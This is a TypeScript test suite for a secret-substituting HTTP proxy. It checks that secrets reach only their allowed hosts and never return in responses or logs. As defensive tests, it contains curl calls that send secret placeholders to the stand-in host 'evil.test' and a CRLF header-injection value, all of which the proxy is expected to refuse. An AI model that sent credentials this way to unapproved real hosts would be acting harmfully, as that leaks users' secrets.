// Secrets through the proxy process: to whom they go, in which form, and that they do not come back.
// suite: 10 s
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createSecureServer } from 'node:http2';
import type { AddressInfo, Server } from 'node:net';
import { before, describe, test } from 'node:test';
import { createBrotliCompress, createGzip } from 'node:zlib';
import { needs } from '../../test/harness/needs.ts';
import { cleanup, run, TestProxy, world } from './proxy.test.helper.ts';
import { HostSecrets, makePlaceholder, type SecretConfig } from './secrets.ts';

const VALUE = 'pa"ss wörd&+/=%';
const OTHER = 'the-other-value-0123456789';
const own: SecretConfig = {
  name: 'TOKEN',
  hosts: ['api.test'],
  placeholder: makePlaceholder('TOKEN'),
  value: VALUE,
};
const other: SecretConfig = {
  name: 'OTHER',
  hosts: ['*.other.test'],
  placeholder: makePlaceholder('OTHER'),
  value: OTHER,
};
const ascii: SecretConfig = {
  name: 'PLAIN',
  hosts: ['api.test'],
  placeholder: makePlaceholder('PLAIN'),
  value: 'sk-0123456789abcdef',
};
const all = [own, other, ascii];

describe('secrets of a host', () => {
  const mine = new HostSecrets(all, 'api.test');
  const none = new HostSecrets(all, 'evil.test');

  test('a host with a port has the secret there alone', () => {
    const all = [
      {
        name: 'P',
        hosts: ['api.test:8443'],
        placeholder: `VEDETTE_SECRET_P_${'a'.repeat(32)}`,
        value: 'v4lue',
      },
    ];
    const at = (port: number) => new HostSecrets(all, 'api.test', port).header('x', all[0]!.placeholder);
    assert.equal(at(8443), 'v4lue');
    assert.notEqual(typeof at(8444), 'string');
  });

  test('stand in headers, paths and Basic credentials', () => {
    assert.equal(mine.header('x', `Bearer ${ascii.placeholder}!`), `Bearer ${ascii.value}!`);
    assert.equal(Buffer.from(mine.header('x', own.placeholder) as string, 'latin1').toString(), VALUE);
    const path = mine.path(`/a/${own.placeholder}?k=${own.placeholder}`) as string;
    assert.equal(decodeURIComponent(path), `/a/${VALUE}?k=${VALUE}`);
    assert.match(path, /^\/a\/[A-Za-z0-9%._~-]+\?k=[A-Za-z0-9%._~-]+$/);
    const token = Buffer.from(`user:${own.placeholder}`).toString('base64');
    const sent = mine.header('authorization', `Basic ${token}`) as string;
    assert.equal(Buffer.from(sent.slice(6), 'base64').toString(), `user:${VALUE}`);
    // The token that went out, which names the value as well, comes back as the one that came.
    assert.equal(mine.answer(`you sent ${sent}`), `you sent Basic ${token}`);
  });

  test('are refused to other hosts', () => {
    for (const text of [own.placeholder, `Basic ${Buffer.from(`u:${own.placeholder}`).toString('base64')}`])
      assert.deepEqual(none.header('x', text), { refused: 'secret TOKEN is not for this host' });
    assert.deepEqual(none.path(`/?${own.placeholder}`), { refused: 'secret TOKEN is not for this host' });
    assert.deepEqual(mine.header('x', other.placeholder), { refused: 'secret OTHER is not for this host' });
    for (const host of ['other.test', 'xother.test', 'a.other.test.evil.test'])
      assert.notEqual(typeof new HostSecrets(all, host).header('x', other.placeholder), 'string', host);
    assert.equal(new HostSecrets(all, 'a.b.other.test').header('x', other.placeholder), OTHER);
  });

  test('with a line end are not written into headers', () => {
    const lines = new HostSecrets([{ ...own, value: 'one\r\nX: two' }], 'api.test');
    const r = lines.header('x', own.placeholder) as { refused: string };
    assert.match(r.refused, /character that cannot stand there/);
    assert.ok(!r.refused.includes('two'));
  });
});

/** Sends back what it was sent, in ways that give a secret away if nobody looks. */
function echo(req: IncomingMessage, res: ServerResponse): void {
  const parts: Buffer[] = [];
  req.on('data', (b: Buffer) => parts.push(b));
  req.on('end', () => {
    const body = Buffer.concat(parts);
    seen = { url: req.url!, headers: req.headers, body, version: req.httpVersion };
    const path = req.url!.replace(/\?.*/s, '');
    const text = Buffer.concat([
      Buffer.from(JSON.stringify({ url: req.url, headers: req.headers })),
      body,
      Buffer.from(VALUE + encodeURIComponent(VALUE) + ascii.value),
    ]);
    res.setHeader('x-echo', ascii.value);
    if (path === '/gzip' || path === '/br' || path === '/zstd') {
      res.setHeader('Content-Encoding', path.slice(1));
      if (path === '/zstd') return void res.end('?');
      const z = path === '/gzip' ? createGzip() : createBrotliCompress();
      z.pipe(res);
      return void z.end(text);
    }
    if (path === '/bytes') {
      // One byte at a time.
      let i = 0;
      const more = (): void => {
        if (i === text.length) return void res.end();
        res.write(text.subarray(i, ++i));
        setImmediate(more);
      };
      return more();
    }
    if (path === '/big') {
      const big = Buffer.concat([Buffer.alloc(1_000_000, '.'), text, Buffer.alloc(1_000_000, '.')]);
      res.setHeader('Content-Length', big.length);
      return void res.end(big);
    }
    if (path !== '/chunked') res.setHeader('Content-Length', text.length);
    res.end(text);
  });
}

let seen: { url: string; headers: IncomingMessage['headers']; body: Buffer; version: string };
const leaks = (text: string): boolean =>
  [
    VALUE,
    encodeURIComponent(VALUE),
    JSON.stringify(VALUE).slice(1, -1),
    ascii.value,
    OTHER,
    'sk-0123456789',
  ].some((v) => text.includes(v) || text.includes(Buffer.from(v).toString('latin1')));

describe('secrets through the process', needs('curl'), () => {
  let proxy: TestProxy;
  let evil: number;
  const ports: Record<string, number> = {};

  before(async () => {
    const cert = world.certificateFor('api.test') + world.pem;
    const a = createSecureServer({ key: world.leafKeyPem, cert, allowHTTP1: true }, echo as never);
    const b = createServer(echo);
    for (const s of [a, b]) {
      s.listen(0, '127.0.0.1');
      await once(s, 'listening');
      cleanup(() => s.close());
    }
    proxy = await TestProxy.start({ secrets: all });
    ports.https = await proxy.listen({
      name: 'api.test',
      server: ((a as unknown as Server).address() as AddressInfo).port,
      port: 443,
    });
    ports.http = await proxy.listen({
      name: 'api.test',
      server: (b.address() as AddressInfo).port,
      port: 80,
    });
    evil = await proxy.listen({ name: 'evil.test', server: (b.address() as AddressInfo).port, port: 80 });
  });

  const curl = (...words: string[]) =>
    run([
      'curl',
      '-sS',
      '-i',
      '--max-time',
      '20',
      '--cacert',
      proxy.caFile,
      '--connect-to',
      `api.test:443:127.0.0.1:${ports.https}`,
      '--connect-to',
      `api.test:80:127.0.0.1:${ports.http}`,
      '--connect-to',
      `evil.test:80:127.0.0.1:${evil}`,
      ...words,
    ]);

  for (const [name, flag, url] of [
    ['HTTP/1.1 without TLS', '--http1.1', 'http://api.test'],
    ['HTTP/1.1', '--http1.1', 'https://api.test'],
    ['HTTP/2', '--http2', 'https://api.test'],
  ] as const)
    describe(name, () => {
      test('go out in headers, query, credentials and bodies', async () => {
        await curl(flag, `${url}/?k=${own.placeholder}`, '-H', `Authorization: Bearer ${ascii.placeholder}`);
        assert.equal(new URLSearchParams(seen.url.slice(2)).get('k'), VALUE);
        assert.equal(seen.headers.authorization, `Bearer ${ascii.value}`);
        await curl(flag, `${url}/`, '-u', `me:${ascii.placeholder}`);
        assert.equal(
          Buffer.from(seen.headers.authorization!.slice(6), 'base64').toString(),
          `me:${ascii.value}`,
        );
        await curl(flag, `${url}/`, '-d', `a=1&k=${own.placeholder}&b=2`);
        assert.equal(new URLSearchParams(seen.body.toString()).get('k'), VALUE);
        assert.equal(Number(seen.headers['content-length']), seen.body.length);
        await curl(
          flag,
          `${url}/`,
          '-H',
          'Content-Type: application/json',
          '-d',
          JSON.stringify({ k: own.placeholder }),
        );
        assert.equal(JSON.parse(seen.body.toString()).k, VALUE);
        await curl(
          flag,
          `${url}/`,
          '-H',
          'Content-Type: text/plain',
          '--data-binary',
          own.placeholder,
          '-H',
          'Transfer-Encoding: chunked',
        );
        assert.equal(seen.body.toString(), VALUE);
        const r = await run([
          'sh',
          '-c',
          `head -c 1000000 /dev/zero | tr '\\0' y; printf %s ${own.placeholder}; head -c 1000000 /dev/zero | tr '\\0' z`,
        ]);
        const big = await run(
          [
            'curl',
            '-sS',
            flag,
            '--cacert',
            proxy.caFile,
            '--connect-to',
            `api.test:443:127.0.0.1:${ports.https}`,
            '--connect-to',
            `api.test:80:127.0.0.1:${ports.http}`,
            '-H',
            'Content-Type: text/plain',
            '--data-binary',
            '@-',
            '-o',
            '/dev/null',
            `${url}/`,
          ],
          { input: r.stdout },
        );
        assert.equal(big.status, 0, big.stderr);
        assert.equal(seen.body.length, 2_000_000 + Buffer.byteLength(VALUE));
        assert.ok(seen.body.includes(VALUE));
      });

      for (const path of ['/', '/chunked', '/bytes', '/gzip', '/br', '/big'])
        test(`do not come back from ${path}`, async () => {
          const r = await curl(
            flag,
            `${url}${path}?k=${own.placeholder}`,
            '-u',
            `me:${ascii.placeholder}`,
            '-H',
            `x-a: ${own.placeholder}`,
          );
          assert.equal(r.status, 0, r.stderr);
          // The check can fail: the server did have them, and the answer's end is there.
          assert.ok(
            leaks(seen.url) && r.stdout.includes(path === '/big' ? '***' : ascii.placeholder),
            r.stdout.slice(0, 500),
          );
          assert.ok(!leaks(r.stdout), r.stdout.slice(0, 3000));
          const sent = Buffer.from(`me:${ascii.value}`).toString('base64');
          assert.ok(!r.stdout.includes(sent));
          assert.match(r.stdout, new RegExp(`x-echo: ${ascii.placeholder}`));
          if (path === '/big') assert.match(r.stdout, /content-length: 2000\d\d\d\r/i);
        });

      test('an answer that cannot be searched does not come back at all', async () => {
        assert.match((await curl(flag, `${url}/zstd`)).stdout, /^HTTP\S+ 502[\s\S]*cannot be searched/);
      });

      test('of another host are refused wherever they stand', async () => {
        const p = other.placeholder;
        for (const words of [
          [`${url}/?${p}`],
          [`${url}/`, '-H', `x: ${p}`],
          [`${url}/`, '-u', `u:${p}`],
          [`${url}/`, '-d', `a=${p}`],
          [`${url}/`, '-d', `a=${p}`, '-H', 'Transfer-Encoding: chunked'],
        ]) {
          const r = await curl(flag, ...words);
          assert.match(r.stdout, /^HTTP\S+ 403[\s\S]*not for this host/, words.join(' '));
        }
      });
    });

  test('sent to an evil host are refused and logged, also in the middle of a large body', async () => {
    assert.match((await curl(`http://evil.test/?${own.placeholder}`)).stdout, /^HTTP\S+ 403/);
    const before = proxy.denials.length;
    const r = await run(
      [
        'curl',
        '-sS',
        '--connect-to',
        `evil.test:80:127.0.0.1:${evil}`,
        '-H',
        'Expect:',
        '--data-binary',
        '@-',
        'http://evil.test/',
      ],
      {
        input: 'x'.repeat(2_000_000) + own.placeholder + 'x'.repeat(2_000_000),
      },
    );
    assert.ok(!r.stdout.includes('"url"'), r.stdout);
    assert.deepEqual(proxy.denials.slice(before), ['a secret in the body is not for this host']);
  });

  test('stand in no log, no argument, no environment; decisions tell their names', () => {
    assert.ok(proxy.decisions.some((d) => d.secrets?.includes('TOKEN')));
    const log = JSON.stringify(proxy.log) + proxy.stderr;
    assert.ok(!leaks(log));
    assert.ok(
      !proxy.log.some((m) => m.type === 'fault'),
      JSON.stringify(proxy.log.filter((m) => m.type === 'fault')),
    );
  });
});
